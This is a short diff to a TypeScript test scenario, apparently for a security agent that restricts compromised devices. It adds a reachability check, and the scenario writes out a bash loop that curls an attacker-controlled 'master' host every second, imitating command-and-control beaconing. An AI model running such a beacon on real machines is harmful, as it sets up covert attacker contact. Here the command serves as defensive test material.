@@ -13,6 +13,7 @@ export const scenario: Scenario = {
     await field.startAgent();
     const { attacker: master, device } = field.network;
     await field.network.serve(master, 'web');
+    field.expect('the device reaches its master before', await field.network.getsPage(device, master.address));
     const beacon = `while :; do curl -s -m 5 -d id=4711 -o /dev/null http://${master.address}/status; sleep 1; done`;
     const either = `${master.address}|${device.address}|${device.mac}`;
     await field.attackUntilRestricted(device, ['bash', '-c', beacon], either, {
